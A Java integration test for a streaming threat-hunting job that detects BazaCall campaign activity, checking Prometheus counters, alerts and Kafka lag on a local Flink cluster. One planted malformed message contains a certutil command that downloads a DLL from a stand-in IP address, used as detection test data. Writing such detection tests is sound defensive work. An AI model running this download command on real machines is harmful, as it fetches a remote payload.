package dev.bazahunt.job.cluster;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.bazahunt.job.pipeline.HuntCounter;
import dev.bazahunt.job.testing.Await;
import dev.bazahunt.job.testing.BazaCallFleetTelemetry;
import dev.bazahunt.job.testing.KafkaTestClient;
import dev.bazahunt.job.testing.LocalFlinkCluster;
import dev.bazahunt.job.testing.LocalKafkaBroker;
import dev.bazahunt.job.testing.PrometheusSamples;
import dev.bazahunt.job.testing.PrometheusWatch;
import dev.bazahunt.job.testing.TestRows;
import dev.bazahunt.rules.RuleIds;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/**
 * The live hunt's counters as Prometheus sees them: {@code stream} on the local standalone cluster, from
 * a real Kafka broker, with rows planted to be late (behind the watermark), from the future (ahead of the
 * wall clock) and malformed. A streaming job's tasks run until it is cancelled, so the TaskManager's
 * endpoint serves the counters' current values: they must be those the planted rows make, the alerts the
 * job wrote, and a source lag ({@code pendingRecords}) of 0 once every message is read.
 *
 * <p>An integration test (failsafe, after {@code package}): it ships job/target/*-shaded.jar.
 */
class StreamMetricsOnClusterIT {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String PENDING_RECORDS = "flink_taskmanager_job_task_operator_pendingRecords";

    @Test
    void lateFutureAndMalformedRowsAlertsAndLagAreScrapedWithTheirValues() throws Exception {
        LocalKafkaBroker broker = LocalKafkaBroker.get();
        KafkaTestClient client = new KafkaTestClient(broker.bootstrapServers());
        String run = UUID.randomUUID().toString().substring(0, 8);
        String input = "metrics-in-" + run;
        String alerts = "metrics-alerts-" + run;
        broker.createTopics(1, input, alerts, "metrics-dead-letters-" + run);
        Path work = Files.createTempDirectory(
                Files.createDirectories(Path.of("target", "stream-metrics").toAbsolutePath()), "run-");

        // A small fleet with one planted chain, then a row a day later that moves event time past its window.
        Instant start = Instant.parse("2021-07-20T08:00:00Z");
        BazaCallFleetTelemetry fleet = new BazaCallFleetTelemetry(20211202L, 300, 30, 1, start, Duration.ofHours(1));
        List<String[]> onTime = new ArrayList<>();
        fleet.messages().forEach(message -> onTime.add(new String[] {message.deviceId(), message.body()}));
        onTime.add(new String[] {"clock", fleet.clockMessage("clock").body()});
        // Then a download from the fleet's first hour (late), one from 2099 (the future) and a cut-off
        // message with the download rule's words, so the pre-filter hands it to the parser (a dead letter).
        var lateDownload = TestRows.download("late-device", start, 900);
        var futureDownload = TestRows.download("future-device", Instant.parse("2099-01-01T00:00:00Z"), 901);
        List<String[]> later = List.of(new String[] {"late-device", TestRows.line(lateDownload)},
                new String[] {"future-device", TestRows.line(futureDownload)},
                new String[] {"broken", "{\"records\":[{\"Timestamp\":\"2021-07-20T17:10:00Z\","
                        + "\"InitiatingProcessCommandLine\":\"certutil.exe -urlcache -split -f http://198.51.100.7/a.dll\","
                        + "\"ReportId\":"});

        try (LocalFlinkCluster cluster = LocalFlinkCluster.start(work.resolve("flink"), 1);
                PrometheusWatch watch = PrometheusWatch.start(List.of(() -> cluster.scrapeTaskManager(1)),
                        Duration.ofMillis(200))) {
            String jobId = cluster.submit(LocalFlinkCluster.shadedJobJar(), List.of("stream",
                    "--bootstrap-servers", broker.bootstrapServers(), "--input-topic", input,
                    "--alerts-topic", alerts, "--dead-letter-topic", "metrics-dead-letters-" + run,
                    "--group-id", "metrics-" + run, "--starting-offsets", "earliest", "--delivery", "at-least-once",
                    "--checkpoint-interval", "2s", "--idleness", "1s", "--parallelism", "1"));
            Await.until("the job runs", Duration.ofSeconds(90), () -> cluster.fullyRunning(jobId));
            client.produce(input, onTime, null);
            // The chain's alerts need the watermark past its window; then the first hour is behind it.
            client.readCommittedUntil(alerts, Duration.ZERO, Duration.ofSeconds(90),
                    messages -> messages.stream().anyMatch(m -> m.value().contains("\"Campaign\"")));
            client.produce(input, later, null);

            int messages = onTime.size() + later.size();
            Map<String, Long> scraped = new TreeMap<>();
            try {
                Await.until("the counters of every message", Duration.ofSeconds(90), () -> {
                    // Lines or messages read are counted by the Kafka source's deserializer.
                    scraped.put(HuntCounter.INPUT_UNITS, watch.lastValue(
                            PrometheusSamples.liveSourceMetric(HuntCounter.INPUT_UNITS), "job_id", jobId));
                    for (String counter : List.of(HuntCounter.LATE, HuntCounter.FUTURE_RECORDS, HuntCounter.DEAD_LETTERED,
                            HuntCounter.BASE_ALERTS, HuntCounter.CORRELATED_ALERTS, HuntCounter.CAMPAIGN_INCIDENTS)) {
                        scraped.put(counter, watch.lastValue(PrometheusSamples.huntMetric(counter), "job_id", jobId));
                    }
                    scraped.put(PENDING_RECORDS, watch.lastValue(PENDING_RECORDS, "job_id", jobId));
                    // Every counter asserted below, each counted by its own operator: the source counts
                    // a message before the router counts it as from the future.
                    return Long.valueOf(messages).equals(scraped.get(HuntCounter.INPUT_UNITS))
                            && Long.valueOf(1).equals(scraped.get(HuntCounter.LATE))
                            && Long.valueOf(1).equals(scraped.get(HuntCounter.FUTURE_RECORDS))
                            && Long.valueOf(1).equals(scraped.get(HuntCounter.DEAD_LETTERED))
                            // The alert functions count after the router: wait for them too.
                            && Long.valueOf(4).equals(scraped.get(HuntCounter.BASE_ALERTS))
                            && Long.valueOf(1).equals(scraped.get(HuntCounter.CORRELATED_ALERTS))
                            && Long.valueOf(1).equals(scraped.get(HuntCounter.CAMPAIGN_INCIDENTS))
                            && Long.valueOf(0).equals(scraped.get(PENDING_RECORDS));
                });
            } catch (AssertionError timeout) {
                throw new AssertionError(timeout.getMessage() + "; scraped " + scraped + "; failures " + watch.failures(),
                        timeout);
            }
            // The alerts the job wrote (by AlertId, so each once whatever its revisions) are what it counted.
            Map<String, String> ruleById = new TreeMap<>();
            for (KafkaTestClient.Message message : client.readCommitted(alerts, Duration.ofSeconds(2))) {
                var alert = JSON.readTree(message.value());
                ruleById.put(alert.path("AlertId").asText(), alert.path("RuleId").asText());
            }
            Set<String> rules = new TreeSet<>(ruleById.values());
            long correlated = ruleById.values().stream().filter(RuleIds.BAZACALL_CORRELATION::equals).count();
            long incidents = ruleById.values().stream().filter(RuleIds.BAZACALL_CAMPAIGN_INCIDENT::equals).count();
            System.out.printf("stream metrics IT: scraped %s; %d alerts of rules %s%n", scraped, ruleById.size(), rules);
            assertThat(scraped).containsEntry(HuntCounter.INPUT_UNITS, (long) messages)
                    .containsEntry(HuntCounter.LATE, 1L)
                    .containsEntry(HuntCounter.FUTURE_RECORDS, 1L)
                    .containsEntry(HuntCounter.DEAD_LETTERED, 1L)
                    .containsEntry(HuntCounter.CORRELATED_ALERTS, 1L)
                    .containsEntry(PENDING_RECORDS, 0L);
            assertThat(fleet.expectedAlertsPerRule()).containsEntry(RuleIds.BAZACALL_CORRELATION, 1)
                    .containsEntry(RuleIds.BAZACALL_CAMPAIGN_INCIDENT, 1).hasSize(4);
            assertThat(correlated).isOne();
            // The chain's download and Excel Macro Execution hit, the late and the future download.
            assertThat(scraped.get(HuntCounter.BASE_ALERTS)).isEqualTo(4L).isEqualTo(ruleById.size() - correlated - incidents);
            // The chain's incident; a lone download's hit is one stage, no incident.
            assertThat(scraped.get(HuntCounter.CAMPAIGN_INCIDENTS)).isEqualTo(incidents).isEqualTo(1L);
            // The dashboard charts what the reporter really exports for a live job: everything but replay's
            // source counters (ReplayOnClusterIT) and the suppression stage that only --suppress adds; and
            // its lag panels, the Kafka source's pendingRecords and currentEmitEventTimeLag.
            List<String> replayOnly = new ArrayList<>(List.of(PrometheusSamples.huntMetric(HuntCounter.SUPPRESSED)));
            GrafanaDashboardTest.SOURCE_COUNTERS.forEach(counter -> replayOnly.add(PrometheusSamples.huntMetric(counter)));
            assertThat(watch.names()).containsAll(GrafanaDashboardTest.chartedHuntMetrics().stream()
                            .filter(name -> !replayOnly.contains(name)).toList())
                    .contains(PENDING_RECORDS, "flink_taskmanager_job_task_operator_currentEmitEventTimeLag");
            cluster.cancel(jobId);
            assertThat(cluster.awaitTermination(jobId, Duration.ofSeconds(60))).isEqualTo("CANCELED");
        }
    }
}
